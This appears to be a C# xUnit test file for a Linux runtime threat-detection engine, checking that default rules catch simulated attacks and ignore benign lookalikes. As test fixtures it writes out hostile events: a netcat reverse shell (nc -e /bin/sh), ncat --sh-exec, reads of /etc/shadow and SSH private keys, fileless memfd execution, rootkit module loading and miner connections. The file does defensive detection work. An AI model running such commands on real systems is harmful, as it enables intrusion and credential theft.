using Harrier.Events;
using Microsoft.Extensions.Time.Testing;

namespace Harrier.Rules.Tests;

/// <summary>Each default rule fires on the attack it describes and stays quiet on the benign neighbour, through NRules.</summary>
public class DefaultRulesTests
{
    private static readonly Lazy<CompiledRuleSet> Set = new(() =>
    {
        var r = RuleLoader.Load(new[] { TestPaths.DefaultRules });
        Assert.True(r.Success, r.Format());
        return r.RuleSet!;
    });

    private static readonly ProcessInfo Systemd = Ev.Proc("systemd", "/usr/lib/systemd/systemd", pid: 1, uid: 0);
    private static readonly ProcessInfo Shell = Ev.Proc("bash", "/usr/bin/bash", parent: Systemd, pid: 10);

    private static List<string> Fired(HarrierEvent e)
    {
        var matches = new List<RuleMatch>();
        Set.Value.CreateEvaluator().Evaluate(new[] { e }, matches);
        return matches.Select(m => m.Rule.Name).ToList();
    }

    private static ProcessInfo P(string name, string? exe = null, ProcessInfo? parent = null, params string[] args)
        => Ev.Proc(name, exe ?? "/usr/bin/" + name, args, parent ?? Shell, pid: 20);

    [Fact]
    public void DefaultRules_LoadCleanly()
    {
        var r = RuleLoader.Load(new[] { TestPaths.DefaultRules });
        Assert.True(r.Success, r.Format());
        Assert.Empty(r.Warnings);
        Assert.Equal(18, r.RuleSet!.Rules.Count);
        Assert.DoesNotContain(EventType.Socket, r.RuleSet.InterestingTypes);
    }

    public static TheoryData<string, Func<HarrierEvent>, Func<HarrierEvent>> Cases => new()
    {
        { "Read sensitive file by untrusted program", () => Ev.Open(P("python3"), "/etc/shadow"), () => Ev.Open(P("sshd"), "/etc/shadow") },
        { "Read sensitive file by untrusted program", () => Ev.Open(P("cat"), "/root/.ssh/id_ed25519"), () => Ev.Open(P("cat"), "/root/.ssh/id_ed25519.pub.txt", res: -2) },
        { "Read sensitive file by untrusted program", () => Ev.Open(P("perl"), "/etc/sudoers"), () => Ev.Open(P("perl"), "/etc/sudoers", 0x241) },
        { "Read sensitive file by untrusted program", () => Ev.Open(P("perl"), "/etc/sudoers.d/90-cloud"), () => Ev.Open(P("perl"), "/etc/sudoers.conf") },
        { "Execution from temporary directory", () => Ev.Exec(P("x", "/tmp/x")), () => Ev.Exec(P("x", "/opt/tmp/x")) },
        { "Execution from temporary directory", () => Ev.Exec(P("x", "/var/tmp/.hidden/x")), () => Ev.Exec(P("x", "/usr/local/bin/x")) },
        { "Write below etc", () => Ev.Open(P("vim"), "/etc/passwd", 0x241), () => Ev.Open(P("apt-get"), "/etc/passwd", 0x241) },
        { "Write below binary dir", () => Ev.Open(P("curl"), "/usr/bin/ls", 0x241), () => Ev.Open(P("dpkg"), "/usr/bin/ls", 0x241) },
        { "Clear log activities", () => Ev.Open(P("bash"), "/var/log/auth.log", 0x201), () => Ev.Open(P("logrotate"), "/var/log/auth.log", 0x201) },
        { "Clear log activities", () => Ev.Unlink(P("rm"), "/var/log/syslog"), () => Ev.Unlink(P("rm"), "/tmp/syslog") },
        { "Write to cgroup release_agent", () => Ev.Open(P("sh"), "/sys/fs/cgroup/rdma/release_agent", 1), () => Ev.Open(P("sh"), "/sys/fs/cgroup/rdma/release_agent", 0) },
        { "Shell spawned by network service", () => Ev.Exec(P("sh", parent: Ev.Proc("nginx", pid: 5))), () => Ev.Exec(P("sh", parent: Shell)) },
        { "Netcat remote code execution", () => Ev.Exec(P("nc", null, null, "-e", "/bin/sh", "10.0.0.1", "4444")), () => Ev.Exec(P("nc", null, null, "-z", "10.0.0.1", "4444")) },
        { "Netcat remote code execution", () => Ev.Exec(P("ncat", null, null, "--sh-exec", "id", "h", "1")), () => Ev.Exec(P("ncat", null, null, "-l", "1")) },
        { "Fileless execution via memfd", () => Ev.Exec(P("x", "/memfd:payload (deleted)")), () => Ev.Exec(P("x", "/usr/bin/x")) },
        { "Execution from temporary directory", () => Ev.Exec(P("dropper", "/dev/shm/dropper")), () => Ev.Exec(P("ls", "/usr/bin/ls")) },
        { "Reverse shell", () => Ev.Dup2(P("bash"), 3, 0, socket: true), () => Ev.Dup2(P("bash"), 3, 0, socket: false) },
        { "Reverse shell", () => Ev.Dup2(P("python3"), 3, 2, socket: true), () => Ev.Dup2(P("python3"), 3, 7, socket: true) },
        { "Connection to crypto miner port", () => Ev.Connect(P("xmrig"), "198.51.100.4", 3333), () => Ev.Connect(P("curl"), "198.51.100.4", 443) },
        { "Ptrace attached to process", () => Ev.Priv(P("evil"), EventType.Ptrace, init: e => e.Request = 16), () => Ev.Priv(P("gdb"), EventType.Ptrace, init: e => e.Request = 16) },
        { "Kernel module loaded", () => Ev.Priv(P("insmod"), EventType.FinitModule, init: e => e.Name = "rootkit"), () => Ev.Priv(P("insmod"), EventType.FinitModule, init: e => e.Res = -1) },
        { "BPF program loaded by unexpected process", () => Ev.Priv(P("loader"), EventType.Bpf, init: e => { e.Request = 5; e.Res = 7; }), () => Ev.Priv(P("harrier"), EventType.Bpf, init: e => { e.Request = 5; e.Res = 7; }) },
        { "Setuid root outside su and sudo", () => Ev.Priv(P("exploit"), EventType.Setuid, init: e => e.Id0 = 0), () => Ev.Priv(P("sudo"), EventType.Setuid, init: e => e.Id0 = 0) },
    };

    private static List<string> Feed(RuleEvaluator ev, params HarrierEvent[] events)
    {
        var matches = new List<RuleMatch>();
        ev.Evaluate(events, matches);
        return matches.Select(m => m.Rule.Name).ToList();
    }

    [Theory]
    [InlineData(29, true)]
    [InlineData(31, false)]
    public void SensitiveReadThenOutbound_FiresOnlyWithin30Seconds(int secondsLater, bool fires)
    {
        const string Rule = "Sensitive file read then outbound connection";
        var time = new FakeTimeProvider();
        var ev = Set.Value.CreateEvaluator(time);
        var thief = P("python3");
        Assert.DoesNotContain(Rule, Feed(ev, Ev.Open(thief, "/etc/shadow")));
        time.Advance(TimeSpan.FromSeconds(secondsLater));
        Assert.DoesNotContain(Rule, Feed(ev, Ev.Connect(Ev.Proc("curl", parent: Shell, pid: 21), "198.51.100.4", 443))); // another process: other key
        Assert.DoesNotContain(Rule, Feed(ev, Ev.Connect(thief, "127.0.0.1", 443)));        // loopback is not outbound
        Assert.Equal(fires, Feed(ev, Ev.Connect(thief, "198.51.100.4", 443)).Contains(Rule));
    }

    [Theory]
    [InlineData(20, 20, true)]
    [InlineData(19, 19, false)]
    [InlineData(40, 1, false)] // 40 failures of one name are one distinct file
    public void FailedOpensUnderEtc_FireAtTwentyDistinctWithinTenSeconds(int failures, int distinct, bool fires)
    {
        const string Rule = "Burst of failed opens under /etc";
        var time = new FakeTimeProvider();
        var ev = Set.Value.CreateEvaluator(time);
        var prober = P("enum");
        var fired = new List<string>();
        for (int i = 0; i < failures; i++)
        {
            time.Advance(TimeSpan.FromMilliseconds(400)); // 20 failures span 8 s: inside the 10 s window
            fired.AddRange(Feed(ev, Ev.Open(prober, $"/etc/probe-{i % distinct}", res: -2)));
        }

        Assert.Equal(fires, fired.Contains(Rule));
    }

    [Fact]
    public void FailedOpensUnderEtc_SpreadBeyondTenSeconds_DoNotFire()
    {
        var time = new FakeTimeProvider();
        var ev = Set.Value.CreateEvaluator(time);
        var prober = P("enum");
        var fired = new List<string>();
        for (int i = 0; i < 25; i++)
        {
            time.Advance(TimeSpan.FromSeconds(1)); // never 20 within 10 s
            fired.AddRange(Feed(ev, Ev.Open(prober, $"/etc/probe-{i}", res: -2)));
        }

        Assert.DoesNotContain("Burst of failed opens under /etc", fired);
    }

    [Theory]
    [MemberData(nameof(Cases))]
    public void DefaultRule_FiresOnAttack_NotOnBenign(string rule, Func<HarrierEvent> attack, Func<HarrierEvent> benign)
    {
        Assert.Contains(rule, Fired(attack()));
        Assert.DoesNotContain(rule, Fired(benign()));
    }
}
